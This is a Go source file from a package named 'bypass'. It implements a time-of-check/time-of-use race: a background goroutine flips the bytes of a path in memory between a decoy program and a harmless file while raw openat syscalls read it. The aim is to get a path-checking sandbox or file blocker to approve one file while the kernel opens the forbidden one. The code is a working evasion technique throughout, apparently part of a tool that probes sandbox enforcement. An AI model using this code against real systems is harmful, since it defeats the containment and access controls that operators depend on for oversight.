package bypass

import (
	"encoding/binary"
	"errors"
	"runtime"
	"sync"
	"sync/atomic"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// How long the flipping goes on, whichever comes first. The first shape of rules stands for the others, which are asked about in
// the same way: against those a slow machine tries for a quarter of the time.
const (
	raceTries = 40000
	raceTime  = 4 * time.Second
	raceHits  = 100 // prove enough, and without a rule every other open is one
)

// race opens a path that alternates between the decoy's and a harmless file's while the kernel reads it. Hits are the
// opens by which the decoy was read.
func race(c *child) error {
	buf, err := unix.Mmap(-1, 0, 2*unix.Getpagesize(), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANONYMOUS)
	if err != nil {
		return err
	}
	// The paths have the same length and differ in their last bytes only: those are put on words that are written whole.
	n := len(c.File)
	const word, words = 8, 3
	if len(c.Other) != n || n < word*words || n+1 > len(buf)-word {
		return impossible("paths of %d and %d bytes", n, len(c.Other))
	}
	start := (word - (n+1)%word) % word
	copy(buf[start:], c.Other)
	var decoy, harmless [words]uint64
	end := start + n + 1
	for i := range words {
		at := n + 1 - word*(words-i)
		decoy[i] = binary.NativeEndian.Uint64([]byte(c.File + "\x00")[at:])
		harmless[i] = binary.NativeEndian.Uint64([]byte(c.Other + "\x00")[at:])
	}
	write := func(path [words]uint64) {
		for i, w := range path {
			atomic.StoreUint64((*uint64)(unsafe.Pointer(&buf[end-word*(words-i)])), w)
		}
	}
	var stop atomic.Bool
	var flipping sync.WaitGroup
	flipping.Go(func() {
		for !stop.Load() {
			write(decoy)
			write(harmless)
		}
	})
	defer flipping.Wait()
	defer stop.Store(true)

	here := unix.AT_FDCWD
	refused := error(nil)
	long := raceTime
	if c.shape != File {
		long /= 4
	}
	for until := time.Now().Add(long); c.tries < raceTries && c.hits < raceHits && (c.tries%256 != 0 || time.Now().Before(until)); {
		c.tries++
		// open_how is not used: this is the call that the blockers of tutorials watch.
		fd, _, errno := unix.Syscall6(unix.SYS_OPENAT, uintptr(here), uintptr(unsafe.Pointer(&buf[start])), readOnly, 0, 0, 0)
		if errno != 0 {
			if errno != unix.ENOENT || refused == nil {
				refused = errno
			}
			if c.tries%64 == 0 {
				runtime.Gosched() // with one CPU the other thread needs its turn
			}
			continue
		}
		last := c.got
		if err := c.read(int(fd), nil); err != nil {
			return err
		}
		if c.got[0] == 0x7f { // the decoy is a program
			c.hits++
		} else {
			c.got = last
		}
	}
	if c.hits == 0 {
		if errors.Is(refused, unix.ENOENT) || refused == nil {
			return impossible("in %d tries the decoy's path never stood there", c.tries)
		}
		return refused
	}
	return nil
}
